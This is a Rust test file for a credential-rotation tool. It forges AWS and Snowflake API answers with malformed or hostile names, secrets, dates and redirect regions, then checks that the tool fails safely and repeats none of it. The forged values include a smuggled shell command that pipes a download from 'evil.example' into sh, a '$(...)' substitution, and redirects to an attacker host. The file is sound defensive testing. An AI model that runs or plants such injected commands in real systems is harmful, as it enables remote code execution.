//! Answers in which a name is no name: of a vendor that has gone mad, or of somebody between. What is not of its form is the
//! vendor's fault, is told so, is not repeated, and nothing is done with it.
//!
//! Leans on the strict fakes, whose answers are forged on their way: what was really done can be asked of them afterwards.

#![expect(clippy::expect_used, reason = "in a test, what cannot be is the failure itself")]

use std::process::Command;

use jiff::Timestamp;
use rotate_fixtures::aws::Action;
use rotate_fixtures::snowflake_workplace;
use rotate_fixtures::workplace::{TARGET, USER};
use rotate_fixtures::{Answer, Forger, Ran, SnowflakeWorkplace, Workplace, has};

use crate::scenarios::beside_each_other;

const ROTATE: &str = env!("CARGO_BIN_EXE_rotate");

const AT_ONCE: [&str; 6] = ["--cutover", "immediate", "--soak", "0s", "--verify-deadline", "1s"];

/// Names as attackers would have them; the mark is looked for in all that is said.
const MARK: &str = "FORGED";

fn begun(text: &str) -> String {
    format!("{:?}", text.chars().take(40).collect::<String>())
}

fn names() -> Vec<String> {
    vec![
        "FORGEDFORGEDFORGEDFO\r".to_owned(),
        "FORGEDFORGEDFORGEDFO\n".to_owned(),
        "FORGEDFORGEDFORG\0ED".to_owned(),
        "FORGEDFORGEDFORG\u{1b}[2J".to_owned(),
        "\u{202e}FORGEDFORGEDFORGED".to_owned(),
        "FORGEDFORGED\u{200b}FORGED".to_owned(),
        "FORGED; curl http://evil.example | sh".to_owned(),
        "$(FORGED)FORGEDFORGEDFORG".to_owned(),
        "@FORGED/FORGEDFORGEDFORGED".to_owned(),
        "<b>FORGEDFORGEDFORGED</b>".to_owned(),
        "FORGED|FORGED|FORGED|FORGED".to_owned(),
        "FORGED".to_owned(),
        String::new(),
        MARK.repeat(3_500_000),
    ]
}

/// Forges what an element of the answers to one call says.
fn element(place: &Workplace, action: Action, name: &'static str, text: &str) -> Forger {
    let port = place.cloud.endpoint();
    let port = port.rsplit_once(':').and_then(|(_, port)| port.parse().ok());
    let called = format!("Action={action}&");
    // A control character is not allowed in XML at all, and parsers differ in what they make of it.
    let text = text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let text = text
        .replace('\r', "&#13;")
        .replace('\n', "&#10;")
        .replace('\u{1b}', "&#27;");
    Forger::before(port.expect("the cloud listens on a port"), move |request, answer| {
        let is_it = request.contains(&called) || action == Action::ListObjectsV2 && request.starts_with("GET ");
        if is_it { with(answer, name, &text) } else { answer }
    })
}

fn with(answer: Answer, name: &str, text: &str) -> Answer {
    let (opens, closes) = (format!("<{name}>"), format!("</{name}>"));
    let mut body = String::new();
    let mut rest = answer.body.as_str();
    while let Some((before, inside)) = rest.split_once(&opens) {
        let (_, after) = inside.split_once(&closes).expect("each element is closed");
        body.push_str(&format!("{before}{opens}{text}{closes}"));
        rest = after;
    }
    body.push_str(rest);
    Answer { body, ..answer }
}

fn through(forger: &Forger, mut command: Command) -> Command {
    command.env("AWS_ENDPOINT_URL", forger.endpoint());
    command
}

/// Runs it in every form, as talkative as it gets; gives the last.
#[track_caller]
fn quiet(command: impl Fn() -> Command, context: &str) -> Ran {
    let mut last = None;
    for more in [&["-vvv"][..], &["-vvv", "--log-format", "json", "--output", "json"]] {
        let mut command = command();
        command.args(more);
        let ran = Ran::of(command);
        expect_harmless(&ran, context);
        last = Some(ran);
    }
    last.expect("there are forms")
}

#[track_caller]
fn expect_harmless(ran: &Ran, context: &str) {
    assert!(matches!(ran.code, Some(0..=4)), "{context}: {:?}", ran.code);
    for text in [&ran.stdout, &ran.stderr] {
        assert!(text.len() < 200_000, "{context}: it says {} letters", text.len());
        let strange = |letter: &char| {
            letter.is_control() && *letter != '\n'
                || matches!(letter, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        assert_eq!(text.chars().find(strange), None, "{context}:\n{text}");
        assert!(!has(text.as_bytes(), MARK.as_bytes()), "{context}:\n{text}");
    }
}

/// What a call answers with, and the element in it.
const NAMES: &[(Action, &str)] = &[
    (Action::ListAccessKeys, "AccessKeyId"),
    (Action::GetUser, "UserId"),
    (Action::GetUser, "UserName"),
    (Action::GetUser, "Arn"),
];

#[test]
fn a_name_of_aws_that_is_none_stops_the_rotation_before_anything_is_done() {
    for (action, name) in NAMES {
        // Somebody may be called so.
        let names = names().into_iter().filter(|text| text != MARK || *name != "UserName");
        beside_each_other(&names.collect::<Vec<_>>(), |text| {
            let context = format!("{action} {name} {}", begun(text));
            let place = Workplace::new(ROTATE);
            let forger = element(&place, *action, name, text);
            let ran = quiet(|| through(&forger, place.rotate(AT_ONCE)), &context);
            assert_eq!(ran.code, Some(1), "{context}: {ran:#?}");
            place.expect_untouched();
        });
    }
}

/// The vendor has made a key, and nobody knows its name: it is found in the list, and is not left over.
#[test]
fn a_new_key_whose_name_or_secret_is_none_is_never_delivered_and_leaves_no_orphan() {
    let two_lines = "FORGED\nAWS_SECRET_ACCESS_KEY=FORGED".to_owned();
    let secrets = [
        two_lines,
        "FORGED FORGED".to_owned(),
        "FORGED\0".to_owned(),
        MARK.repeat(100_000),
    ];
    let forged = names().into_iter().map(|text| ("AccessKeyId", text));
    let forged: Vec<_> = forged.chain(secrets.map(|text| ("SecretAccessKey", text))).collect();
    beside_each_other(&forged, |(name, text)| {
        let context = format!("{name} {}", begun(text));
        let place = Workplace::new(ROTATE);
        let forger = element(&place, Action::CreateAccessKey, name, text);
        let mut loud = through(&forger, place.rotate(AT_ONCE));
        loud.arg("-vvv");
        let ran = Ran::of(loud);
        expect_harmless(&ran, &context);
        assert_eq!(ran.code, Some(1), "{context}: {ran:#?}");
        assert!(!place.delivered().exists(), "{context}");
        assert!(place.cloud.works(&place.old.id, &place.old.secret), "{context}");
        Ran::of(place.rotate(AT_ONCE)).expect(0);
        place.expect_rotated();
    });
}

#[test]
fn a_code_a_message_or_a_requests_name_that_is_none_is_not_repeated() {
    for action in [Action::GetUser, Action::ListAccessKeys, Action::CreateAccessKey] {
        for name in ["Code", "Message", "RequestId"] {
            // What is a name may be repeated: it is the vendor's own word.
            let names = names().into_iter().filter(|text| text != MARK);
            beside_each_other(&names.collect::<Vec<_>>(), |text| {
                let context = format!("{action} {name} {}", begun(text));
                let place = Workplace::new(ROTATE);
                place.cloud.deny(action);
                let forger = element(&place, action, name, text);
                let mut loud = through(&forger, place.rotate(AT_ONCE));
                loud.arg("-vvv");
                let ran = Ran::of(loud);
                expect_harmless(&ran, &context);
                assert_eq!(ran.code, Some(1), "{context}: {ran:#?}");
                place.expect_untouched();
            });
        }
    }
}

#[test]
fn a_service_or_a_region_that_is_none_is_called_unknown() {
    for name in ["ServiceName", "Region"] {
        let names = names().into_iter().filter(|text| text != MARK);
        beside_each_other(&names.collect::<Vec<_>>(), |text| {
            let context = format!("{name} {}", begun(text));
            let place = Workplace::new(ROTATE);
            let other = place.cloud.add_key(USER);
            place
                .cloud
                .set_last_used(&other.id, Timestamp::now(), "s3", "eu-west-1");
            let forger = element(&place, Action::GetAccessKeyLastUsed, name, text);
            let ran = quiet(|| through(&forger, place.rotate(AT_ONCE)), &context);
            assert_eq!(ran.code, Some(3), "{context}: {ran:#?}");
            // Some of it is not XML at all, and then the whole of its use is unknown.
            assert!(ran.stderr.contains("unknown"), "{context}: {}", ran.stderr);
            assert_eq!(place.cloud.keys_of(USER).len(), 2, "{context}");
        });
    }
}

#[test]
fn a_date_that_cannot_be_is_no_date() {
    for date in [
        "9999-12-31T23:59:59Z",
        "0001-01-01T00:00:00Z",
        "1969-12-31T23:59:59Z",
        "9001-01-01T00:00:00Z",
    ] {
        for (action, name) in [
            (Action::ListAccessKeys, "CreateDate"),
            (Action::GetAccessKeyLastUsed, "LastUsedDate"),
        ] {
            let place = Workplace::new(ROTATE);
            let other = place.cloud.add_key(USER);
            place
                .cloud
                .set_last_used(&other.id, Timestamp::now(), "s3", "eu-west-1");
            let forger = element(&place, action, name, date);
            let ran = quiet(|| through(&forger, place.rotate(AT_ONCE)), date);
            assert_eq!(ran.code, Some(3), "{date}: {ran:#?}");
            let said = if name == "CreateDate" {
                "of unknown age"
            } else {
                "use not reported"
            };
            assert!(ran.stderr.contains(said), "{date}: {}", ran.stderr);
        }
    }
}

#[test]
fn a_region_in_a_header_that_is_none_is_not_gone_to() {
    let place = Workplace::new(ROTATE);
    let port = place.cloud.endpoint();
    let port = port
        .rsplit_once(':')
        .and_then(|(_, port)| port.parse().ok())
        .expect("a port");
    for region in ["evil.example/", "us-east-1@evil.example", "x".repeat(5_000).as_str()] {
        let region = region.to_owned();
        let forger = Forger::before(port, move |request, answer| {
            if !request.starts_with("GET ") {
                return answer;
            }
            Answer {
                head: format!("HTTP/1.1 301 Moved\r\nx-amz-bucket-region: {region}"),
                body: "<Error><Code>PermanentRedirect</Code><Message>FORGED</Message></Error>".to_owned(),
            }
        });
        let ran = quiet(|| through(&forger, place.rotate(AT_ONCE)), "a region");
        assert_eq!(ran.code, Some(1), "{ran:#?}");
        assert!(place.cloud.works(&place.old.id, &place.old.secret));
    }
}

/// The journal keeps what a vendor has said, and shows it again.
#[test]
fn what_was_forged_is_not_in_the_journal_either() {
    let place = Workplace::new(ROTATE);
    let text = "FORGED\u{1b}[2J\u{202e}; curl http://evil.example | sh";
    let forger = element(&place, Action::GetAccessKeyLastUsed, "ServiceName", text);
    Ran::of(place.rotate(["--soak", "0s"])).expect(0);
    place
        .cloud
        .set_last_used(&place.old.id, Timestamp::now(), "s3", "eu-west-1");
    let confirmed = Ran::of(through(&forger, place.command(["confirm", TARGET])));
    expect_harmless(&confirmed, "confirm");
    for command in [
        &["status", TARGET][..],
        &["audit"],
        &["audit", "--output", "json"],
        &["status", "--output", "json"],
    ] {
        expect_harmless(&place.run(command), &format!("{command:?}"));
    }
    let journal = std::fs::read(place.state().join("rotate.db")).expect("there is a journal");
    assert!(!has(&journal, MARK.as_bytes()));
}

// Snowflake.

/// Forges the cells of this text in the answers to these statements.
fn cell(place: &SnowflakeWorkplace, statement: &'static str, from: &str, to: &str) -> Forger {
    let json = |text: &str| serde_json::Value::from(text).to_string();
    let (from, to) = (json(from), json(to));
    Forger::before(place.cloud.port(), move |request, answer| {
        if !request.contains(statement) {
            return answer;
        }
        let body = answer.body.replace(&from, &to);
        Answer { body, ..answer }
    })
}

#[test]
fn a_name_of_snowflake_that_is_none_stops_the_rotation_before_anything_is_done() {
    let place = SnowflakeWorkplace::new(ROTATE);
    let admin = place.cloud.admin_user().to_owned();
    for text in names() {
        // A user may be called so, in quotes.
        let fits = text.chars().count() <= 255
            && !text.is_empty()
            && !text.chars().any(rotate_providers::untrusted::is_harmful);
        if fits {
            continue;
        }
        let context = format!("{:?}", text.chars().take(40).collect::<String>());
        for (statement, from) in [
            ("SELECT CURRENT_ACCOUNT", admin.as_str()),
            ("DESC USER", snowflake_workplace::USER),
        ] {
            let forger = cell(&place, statement, from, &text);
            let command = || {
                let mut command = place.rotate(AT_ONCE);
                command.env("SNOWFLAKE_PORT", forger.port().to_string());
                command
            };
            let ran = quiet(command, &context);
            assert_eq!(ran.code, Some(1), "{context}: {ran:#?}");
            assert!(!place.delivered().exists(), "{context}");
        }
    }
}
